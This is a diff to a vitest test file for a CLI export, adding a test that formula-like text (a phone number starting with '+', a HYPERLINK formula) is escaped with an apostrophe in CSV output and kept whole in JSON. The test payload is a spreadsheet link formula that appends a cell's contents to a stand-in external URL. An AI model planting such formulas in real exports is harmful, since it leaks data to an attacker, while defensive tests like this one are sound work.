@@ -7,7 +7,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { createLoginLink } from '../../src/auth/login-link.js';
 import { loadDemo } from '../../src/demo/demo.js';
 import { runExport } from '../../src/export/export-command.js';
-import { parseCsv } from '../../src/import/csv.js';
+import { parseCsv } from '../../src/shared/csv.js';
 import { useTestApp } from '../helpers/test-app.js';
 
 const { ctx, world, sql } = useTestApp();
@@ -45,7 +45,11 @@ function fill(): { loginLink: string } {
   return { loginLink };
 }
 
-const asText = (value: unknown) => (value === null || value === undefined ? '' : String(value));
+/** A stored value as its CSV cell reads back: text that starts like a formula keeps the apostrophe it was given. */
+const asText = (value: unknown) => {
+  if (value === null || value === undefined) return '';
+  return typeof value === 'string' && /^[=+\-@\t\r]/.test(value) ? `'${value}` : String(value);
+};
 
 describe('cli export', () => {
   it('writes every table as CSV that parses back to the records, and one JSON file with the same', () => {
@@ -88,6 +92,26 @@ describe('cli export', () => {
       agreements.some((row) => row.includes('Politie en scholen; samen "lachgas" aanpakken\nvoor de zomer')),
     ).toBe(true);
     expect(lines.join('')).toContain('Export geschreven naar');
+  });
+
+  it('writes text that starts like a formula so a spreadsheet shows it instead of running it; the JSON keeps it whole', () => {
+    fill();
+    const formula = '=HYPERLINK("http://x.example/?"&A1;"Klik")';
+    ctx.deps.db.$client
+      .prepare('update organisations set name = ? where id = ?')
+      .run(formula, world.school.id);
+    ctx.deps.db.$client
+      .prepare("update contacts set role = '+31 6 12345678' where id = ?")
+      .run(world.schoolMember.id);
+    expect(runExport(folder, ctx.deps.db, ctx.clock.now(), out, out)).toBe(0);
+    const organisations = readFileSync(join(folder, 'organisations.csv'), 'utf8');
+    expect(organisations).toContain(`"'=HYPERLINK(""http://x.example/?""&A1;""Klik"")"`);
+    expect(organisations).not.toMatch(/(^|;)"?=HYPERLINK/m);
+    expect(readFileSync(join(folder, 'contacts.csv'), 'utf8')).toContain(";'+31 6 12345678;");
+    const json = JSON.parse(readFileSync(join(folder, 'ketenoverleg.json'), 'utf8')) as {
+      tables: Record<string, { name?: string }[]>;
+    };
+    expect(json.tables.organisations?.map((row) => row.name)).toContain(formula);
   });
 
   it('holds no token, login link, session or mail body', () => {
